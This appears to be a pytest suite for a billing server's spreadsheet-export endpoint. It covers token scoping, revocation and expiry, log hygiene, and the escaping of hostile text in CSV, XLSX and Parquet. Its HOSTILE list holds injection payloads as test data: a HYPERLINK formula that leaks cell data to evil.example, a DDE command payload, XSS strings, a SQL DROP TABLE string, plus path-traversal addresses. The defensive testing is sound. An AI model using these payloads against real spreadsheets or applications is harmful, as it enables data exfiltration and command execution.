"""The address for spreadsheets: who may open it, what it shows, what is told of it; and hostile text in each form."""

from __future__ import annotations

import csv
import io
import json
import secrets
import zipfile
from typing import TYPE_CHECKING, Any

import httpx2
import pytest
from pyarrow import parquet

from groat_server.core.scopes import Scope
from groat_server.http.admin_reports import ReportParameters
from groat_server.http.sheets import ROWS_MAX
from groat_server.operations.ledger import open_ledger
from groat_server.operations.reports import REPORTS
from groat_server.operations.tokens import create_token
from tests.http.api import new_key
from tests.http.test_report_files import ROOT, xlsx_cells

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from datetime import timedelta

    from groat_server.database import Address
    from tests.http.api import Api
    from tests.services import Service

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE users; --",
    '={"a","b"}',
    "{{constructor}}",
    "_x003D_1",
]


@pytest.fixture(scope="module")
def token(api: Api) -> str:
    """Make a token for the address."""
    return api.new_service_token("sheets:read")


@pytest.fixture(scope="module")
def stranger(api: Api) -> Iterator[httpx2.Client]:
    """Lend a client that sends no header of ours, as a spreadsheet does."""
    with httpx2.Client(base_url=api.url, timeout=60) as client:
        yield client


@pytest.fixture(scope="module")
def hostile(api: Api) -> list[str]:
    """Make users, uses, prices, reasons, holds and acts of hostile text; returns the users' addresses."""
    emails = []
    for number, text in enumerate(HOSTILE):
        email = f"={number}+cmd-{secrets.token_hex(4)}@example.com"
        named = {"email": email, "full_name": text, "external_id": f"{text} {number}"}
        assert api.post("/api/v1/admin/users", named).status == 201
        emails.append(email)
        fields = {
            "description": text,
            "session_id": text,
            "metadata": {text: text},
            "idempotency_key": f"{text}{new_key()}",
        }
        key = fields.pop("idempotency_key")
        api.charge(email, str(key), 2, **fields)
        voided = api.charge(email, f"{text}{new_key()}", 2, **fields).body["id"]
        acts: list[tuple[str, dict[str, Any]]] = [
            ("voids", {"event_id": voided}),
            ("adjustments", {"amount": "3"}),
            ("grants", {"amount": "3", "kind": "promotion"}),
        ]
        for verb, body in acts:
            asked = {"user": email, "reason": text, "idempotency_key": f"{text}{new_key()}", **body}
            assert api.post(f"/api/v1/admin/{verb}", asked).status in {200, 201}, verb
        hold = {"user": email, "amount": 1, "description": text, "idempotency_key": new_key()}
        assert api.post("/api/v1/holds", hold).status == 201
        assert api.post("/api/v1/admin/tokens", {"name": text, "scopes": ["usage:write"]}).status == 201
    return emails


def given(name: str, user: str) -> dict[str, str]:
    """Return what a report cannot do without, and as many rows as there may be."""
    said = {"user": user, "priced": "lamp", "kind": "model", "limit": "500"}
    parameters = {parameter.name: parameter for parameter in REPORTS[name].parameters}
    return {key: said[key] for key in parameters if key == "limit" or parameters[key].is_required}


READABLE = [name for name, report in REPORTS.items() if report.scope is Scope.REPORTS_READ]


@pytest.mark.parametrize("name", READABLE)
def test_each_report_is_at_an_address_as_its_file_is(
    api: Api, stranger: httpx2.Client, token: str, hostile: list[str], name: str
) -> None:
    query = given(name, hostile[0])
    answer = stranger.get(f"/sheets/{name}.csv", params={**query, "token": token})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["x-content-type-options"] == "nosniff"
    header = next(csv.reader(io.StringIO(answer.text, newline="")))
    assert header == list(REPORTS[name].columns)
    if name in {"accounts", "lots", "ledger-entries", "user-balance-line", "action-types"}:
        assert answer.content == api.get(f"{ROOT}/{name}", format="csv", **query).content


@pytest.mark.parametrize("name", sorted(set(REPORTS) - set(READABLE)))
def test_no_report_of_administration_is_at_an_address_or_open_to_who_reads_reports(
    api: Api, stranger: httpx2.Client, token: str, name: str
) -> None:
    """Taken out: the scope of the report; then whoever reads reports reads the audit log."""
    assert stranger.get(f"/sheets/{name}.csv", params={"token": token}).status_code == 403
    reader = api.with_token(api.new_service_token("reports:read"))
    for form in ("json", "csv", "xlsx", "parquet"):
        assert reader.get(f"{ROOT}/{name}", format=form).code == (403, "forbidden")
        assert api.get(f"{ROOT}/{name}", format=form).status == 200
    assert reader.get(f"{ROOT}/{name}", explain="sql").code == (403, "forbidden")


def test_only_a_token_that_was_made_for_it_opens_it(api: Api, stranger: httpx2.Client, token: str) -> None:
    """Taken out: `and no other`; then an administrator's token is taken, and ends up in somebody's history."""
    others = {
        "user": api.new_token(api.new_user()),
        "admin": api.new_token(api.new_user(is_admin=True)),
        "two scopes": api.new_service_token("sheets:read", "reports:read"),
        **{scope.value: api.new_service_token(scope) for scope in Scope if scope is not Scope.SHEETS_READ},
    }
    for who, other in others.items():
        answer = stranger.get("/sheets/overview.csv", params={"token": other})
        assert (answer.status_code, answer.json()["code"]) == (403, "forbidden"), who
        assert other not in answer.text
    for wrong in ({}, {"token": ""}, {"token": "groat_nobodys"}, {"token": "x" * 5000}):
        answer = stranger.get("/sheets/overview.csv", params=wrong)
        assert (answer.status_code, answer.json()["code"]) == (401, "unauthorized")
    bearer = stranger.get("/sheets/overview.csv", headers={"Authorization": f"Bearer {token}"})
    assert bearer.status_code == 401
    assert stranger.get("/sheets/nonsense.csv").status_code == 401
    assert stranger.get("/sheets/nonsense.csv", params={"token": token}).status_code == 404


def test_that_token_opens_nothing_else(api: Api, token: str) -> None:
    """Taken out: the refusal where any valid token will do; then it prices uses."""
    client = api.with_token(token)
    for route in ("/api/v1/me/credits", "/api/v1/admin/reports", f"{ROOT}/overview", "/api/v1/admin/credits/overview"):
        assert client.get(route).code == (403, "forbidden"), route
    use = {"user": api.new_user(), "action_type": "unit", "quantity": 1}
    assert client.post("/api/v1/estimate", use).code == (403, "forbidden")
    assert client.post("/api/v1/usage", {**use, "idempotency_key": new_key()}).code == (403, "forbidden")


def test_a_revoked_token_ends_at_the_next_request(api: Api, stranger: httpx2.Client) -> None:
    made = api.post("/api/v1/admin/tokens", {"name": "sheet", "scopes": ["sheets:read"]}).body
    address = {"token": made["token"]}
    assert stranger.get("/sheets/overview.csv", params=address).status_code == 200
    assert api.delete(f"/api/v1/admin/tokens/{made['details']['id']}").status == 204
    assert stranger.get("/sheets/overview.csv", params=address).status_code == 401


@pytest.mark.anyio
async def test_an_expired_token_is_refused(
    stranger: httpx2.Client, shared_ledger: Address, lifetime: timedelta
) -> None:
    async with open_ledger(shared_ledger, provider_durability=True) as ledger:
        made = await create_token(ledger, name="old", scopes=[Scope.SHEETS_READ], lifetime=lifetime)
    assert stranger.get("/sheets/overview.csv", params={"token": made.token}).status_code == 401


@pytest.fixture
def lifetime() -> timedelta:
    """Return a life that is over."""
    from datetime import timedelta  # noqa: PLC0415 - a type elsewhere

    return timedelta(seconds=-1)


@pytest.mark.parametrize(
    "query",
    [
        {"days": "0"},
        {"days": "x"},
        {"limit": str(ROWS_MAX + 1)},
        {"nonsense": "1"},
        {"format": "json"},
        {"explain": "sql"},
    ],
)
def test_what_it_does_not_take_is_refused_and_not_repeated(
    stranger: httpx2.Client, token: str, query: Mapping[str, str]
) -> None:
    answer = stranger.get("/sheets/top-consumers.csv", params={**query, "token": token})
    assert (answer.status_code, answer.json()["code"]) == (422, "unprocessable")
    assert token not in answer.text


@pytest.mark.parametrize(
    "address",
    [
        "accounts.csv?search=%00", "accounts.csv?search=" + "x" * 5000,
        "lots.csv?user=%00", "lots.csv?user=99999999999999999999", "lots.csv?user=", "holds.csv?from=x&to=y",
        "holds.csv?from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z", "%00.csv?days=1", "..%2f..%2fmetrics.csv?days=1",
        f"{'x' * 100}.csv?days=1", "overview.csv?token=second",
    ],
)  # fmt: skip
def test_no_address_is_an_error_of_ours(stranger: httpx2.Client, token: str, address: str) -> None:
    answer = stranger.get(f"/sheets/{address}&token={token}")
    assert answer.status_code in {401, 404, 422}, answer.text
    assert token not in answer.text
    assert stranger.get(f"/sheets/{address}&token=%ff%00{'x' * 3000}").status_code in {401, 404}


def test_a_parameter_that_is_given_twice_is_refused(stranger: httpx2.Client, token: str) -> None:
    for address in (f"token={token}&token={token}", f"token={token}&days=1&days=2"):
        assert stranger.get(f"/sheets/overview.csv?{address}").status_code == 422


def test_nothing_of_the_address_is_in_the_log(stranger: httpx2.Client, token: str, service: Service) -> None:
    for path in ("overview.csv", "nonsense.csv", "overview.xlsx", "overview.csv/x", "audit-log.csv"):
        stranger.get(f"/sheets/{path}", params={"token": token, "days": "0", "search": "secretly"})
        stranger.post(f"/sheets/{path}", params={"token": token})
    stranger.get("/sheets/top-consumers.csv", params={"token": token, "user": "secretly@example.com"})
    log = service.log.read_text()
    routes = [
        line["route"]
        for line in map(json.loads, filter(lambda line: line.startswith("{"), log.splitlines()))
        if "route" in line
    ]
    assert "/sheets/{name}.csv" in routes
    assert token not in log
    assert "secretly" not in log
    assert token.removeprefix("groat_")[:12] not in log


def test_it_takes_no_more_than_reports_do() -> None:
    assert "token" not in ReportParameters.model_fields


@pytest.mark.parametrize("name", REPORTS)
def test_hostile_text_is_text_in_every_form(api: Api, hostile: list[str], name: str) -> None:
    """Taken out: the apostrophe in csv_column; `write_string` in XLSX."""
    query = given(name, hostile[0])
    as_json = api.get(f"{ROOT}/{name}", **query).body["rows"]
    kinds = REPORTS[name].columns
    texts = [column for column, kind in kinds.items() if kind in {"text", "list"}]
    found = list(
        csv.DictReader(io.StringIO(api.get(f"{ROOT}/{name}", format="csv", **query).content.decode(), newline=""))
    )
    assert len(found) == len(as_json)
    for row, told in zip(found, as_json, strict=True):
        for column in texts:
            assert not row[column].startswith(FORMULAS), (column, row[column])
            if isinstance(told[column], str):
                assert row[column] in {told[column], f"'{told[column]}"}
    book = api.get(f"{ROOT}/{name}", format="xlsx", **query)
    header, *cells = xlsx_cells(book)  # which refuses formulas and links
    with zipfile.ZipFile(io.BytesIO(book.content)) as file:
        assert not [part for part in file.namelist() if "externalLink" in part or "vba" in part.lower()]
    names = list(kinds)
    assert len(header) == len(names)
    for row_of_cells in cells:
        for cell in row_of_cells:
            column = names[_column(str(cell.get("r")))]
            assert (cell.get("t") in {"inlineStr", "s", "str"}) == (column in texts) or kinds[column] in {
                "integer",
                "flag",
            }
    table = parquet.read_table(io.BytesIO(api.get(f"{ROOT}/{name}", format="parquet", **query).content)).to_pylist()
    assert [{column: row[column] for column in texts} for row in table] == [
        {column: row[column] for column in texts} for row in as_json
    ]


def _column(reference: str) -> int:
    """Return the number of a cell's column, from 0."""
    number = 0
    for letter in reference.rstrip("0123456789"):
        number = number * 26 + ord(letter) - ord("A") + 1
    return number - 1


def test_the_hostile_text_is_really_in_the_reports(api: Api, hostile: list[str]) -> None:
    """Else the test above would prove nothing."""
    for name, column in {
        "users": "full_name", "accounts": "full_name", "usage-events": "description", "recent-activity": "description",
        "ledger-entries": "reason", "voided-events": "reason", "holds": "description", "tokens": "name",
        "audit-log": "details", "lots": "reason",
    }.items():  # fmt: skip
        told = " ".join(str(row[column]) for row in api.get(f"{ROOT}/{name}", limit=500).body["rows"])
        assert "<script>alert(1)</script>" in told, (name, hostile)
